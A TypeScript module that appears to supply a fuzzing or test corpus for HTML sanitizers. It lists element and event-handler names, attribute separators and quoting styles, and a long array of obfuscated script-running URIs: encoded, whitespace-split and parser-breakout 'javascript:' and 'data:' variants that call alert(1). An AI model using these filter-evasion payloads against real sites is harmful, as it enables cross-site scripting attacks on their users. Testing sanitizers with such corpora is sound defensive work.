/** What an attack is made of; names from the HTML, SVG and MathML specifications. */

export const ELEMENTS = `a abbr acronym address animate animatetransform applet area article aside audio b base basefont
bdi bdo bgsound big blink blockquote body br button canvas caption center cite code col colgroup command content custom-el
data datalist dd del details dfn dialog dir div dl dt em embed fieldset figcaption figure font footer form frame frameset
h1 h6 header hgroup hr html i iframe image img input ins isindex kbd keygen label legend li link listing main map mark
marquee menu menuitem meta meter multicol nav nobr noembed noframes noscript object ol optgroup option output p param
picture plaintext portal pre progress q rb rp rt ruby s samp section select set shadow slot small source spacer span
strike strong style sub summary sup svg table tbody td template textarea tfoot th thead time title tr track tt u ul var
video wbr xmp math mtext mglyph foreignobject use`.split(/\s+/);

export const EVENTS =
  `abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy
beforecut beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload begin blur bounce cancel canplay change
click close command contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend dragenter
dragleave dragover dragstart drop durationchange end ended error finish focus focusin focusout formdata fullscreenchange
gesturestart gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadedmetadata loadstart
message mousedown mouseenter mousemove mouseout mouseover mouseup mousewheel pagehide pageshow paste pause play playing
pointercancel pointerdown pointermove pointerover pointerrawupdate pointerup popstate progress ratechange readystatechange
repeat reset resize scroll scrollend search securitypolicyviolation seeked seeking select selectionchange selectstart show
slotchange start submit suspend timeupdate toggle touchstart transitioncancel transitionend transitionrun transitionstart
unhandledrejection unload volumechange waiting webkitanimationend webkittransitionend wheel`.split(/\s+/);

/** Elements whose content is text to one parser and markup to another. */
export const RAW_TEXT =
  `title textarea style script xmp iframe noembed noframes plaintext noscript template select math svg
desc foreignObject annotation-xml mtext`.split(/\s+/);

/** Between a tag's name and its attribute, a browser takes any of these. */
export const SEPARATORS = [' ', '/', '\t', '\n', '\f', '\r\n', '//', ' x ', '/x="1"/'];

/** The ways to write an attribute's value. */
export const QUOTINGS = [
  (value: string) => `="${value}"`,
  (value: string) => `='${value}'`,
  (value: string) => `=${value}`,
  (value: string) => ` = "${value}"`,
  (value: string) => `=\`${value}\``,
  (value: string) => `="&#9;${value}"`,
];

/** An address that runs, and the disguises that browsers see through or once did. */
export const RUNNING_ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\r\nscript:alert(1)',
  'javascript\t:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3A;alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)',
  '&#0000106avascript:alert(1)',
  'javascript:/*--></title></style></textarea></script></xmp><svg/onload=alert(1)>*/alert(1)',
  'javascript://%0aalert(1)',
  'javascript://comment%0d%0aalert(1)',
  'javascript:alert(1)//https://example.org/',
  'https://example.org/\n\njavascript:alert(1)',
  'vbscript:alert(1)',
  'livescript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'blob:https://example.org/alert(1)',
  'filesystem:https://example.org/temporary/alert(1)',
  'view-source:javascript:alert(1)',
  'feed:javascript:alert(1)',
  'jar:javascript:alert(1)!/',
  'ｊavascript:alert(1)',
  'java\u200Bscript:alert(1)',
  '\u2028javascript:alert(1)',
  '//example.org/%0ajavascript:alert(1)',
  '/\\example.org/javascript:alert(1)',
];
